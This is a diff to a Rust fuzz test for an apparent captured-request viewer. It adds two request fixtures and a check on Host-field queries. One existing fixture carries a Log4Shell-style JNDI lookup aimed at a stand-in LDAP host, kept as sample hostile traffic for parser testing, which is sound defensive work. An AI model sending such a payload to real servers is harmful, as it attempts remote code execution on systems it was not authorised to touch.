@@ -12,7 +12,7 @@ use forever200_viewer::reader::Entry;
 use libfuzzer_sys::fuzz_target;
 
 static ENTRIES: LazyLock<Vec<Entry>> = LazyLock::new(|| {
-    let raws: [&[u8]; 7] = [
+    let raws: [&[u8]; 9] = [
         b"",
         b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
         b"POST /cgi-bin/x?y=%41 HTTP/1.0\r\nContent-Length: 3\r\n\r\na=b",
@@ -20,6 +20,8 @@ static ENTRIES: LazyLock<Vec<Entry>> = LazyLock::new(|| {
         b"\x16\x03\x01\0\x2d\x01\0\0\x29\x03\x03",
         b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
         b"SSH-2.0-Go\r\n",
+        b"CONNECT a.example:443 HTTP/1.1\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n",
     ];
     raws.iter()
         .zip(1..)
@@ -57,6 +59,13 @@ fuzz_target!(|query: &[u8]| {
                     "{text} in {}",
                     entry.summary
                 );
+            }
+        }
+        [asked] if asked.field == Field::Host && !asked.value.trim().is_empty() => {
+            let is_none = asked.value.trim().eq_ignore_ascii_case("none");
+            for (entry, found) in ENTRIES.iter().zip(found) {
+                let is_met = found != asked.excludes;
+                assert!(!is_met || is_none == entry.asked_for.is_none());
             }
         }
         _ => {}
